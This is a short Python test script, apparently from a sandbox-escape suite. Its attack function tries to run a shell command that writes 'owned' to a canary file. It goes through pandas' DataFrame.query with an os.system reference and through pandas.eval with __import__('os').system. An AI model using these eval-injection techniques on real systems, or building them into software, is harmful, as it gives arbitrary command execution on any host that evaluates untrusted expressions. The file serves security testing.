"""Runs a command through pandas' own evaluation."""
import pandas


def attack(canary):
    command = "echo owned > " + canary["file"]
    frame = pandas.DataFrame({"a": [1]})
    assert frame.query("@pandas.core.common.os.system(@command) == 0", engine="python", parser="pandas").size
    pandas.eval("__import__('os').system(command)")
    return "escaped"
